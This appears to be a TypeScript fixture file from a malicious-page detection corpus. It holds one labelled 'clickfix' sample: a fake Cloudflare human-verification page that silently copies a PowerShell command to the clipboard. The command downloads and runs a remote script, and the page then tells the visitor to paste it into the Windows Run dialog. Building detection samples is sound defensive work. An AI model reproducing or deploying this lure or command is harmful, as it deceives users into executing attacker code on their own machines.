import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-clickfix-cloudflare-run-dialog',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.riverside-dental-care.com/?cf_chl=verify',
  body: doc({
    title: 'Just a moment...',
    css: `body{font-family:system-ui,-apple-system,sans-serif;color:#313131;margin:0;padding:8vh 10vw}.box{border:1px solid #d9d9d9;background:#fafafa;width:320px;padding:14px;display:flex;gap:10px;align-items:center;cursor:pointer}
#ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.55)}#ov .in{background:#fff;width:520px;margin:12vh auto;padding:26px;border-radius:8px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:2px 6px}`,
    body: `<h1 style="font-weight:500">www.riverside-dental-care.com</h1><h2 style="font-weight:400">Verify you are human by completing the action below.</h2>
<div class="box" id="cb"><span style="width:22px;height:22px;border:2px solid #666;display:inline-block"></span> I'm not a robot</div>
<p>www.riverside-dental-care.com needs to review the security of your connection before proceeding.</p>
<div id="ov"><div class="in"><h3>Verification steps</h3><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<p style="font-size:13px;color:#666">Ray ID: 8f2c91d0a7b3e412 · This helps us verify you are a real visitor.</p></div></div>
<p style="font-size:12px;color:#999;margin-top:60px">Ray ID: 8f2c91d0a7b3e412 · Performance &amp; security by Cloudflare</p>
<script>
var c='powershell -w h -nop -c "$u=\\'https://cdn-upd.dentalcare-static.com/v.ps1\\';iex(iwr $u -UseBasicParsing).Content" # I am not a robot - reCAPTCHA Verification ID: 4471';
document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
try{navigator.clipboard.writeText(c)}catch(e){}document.getElementById('ov').style.display='block'};
</script>`,
  }),
},
];
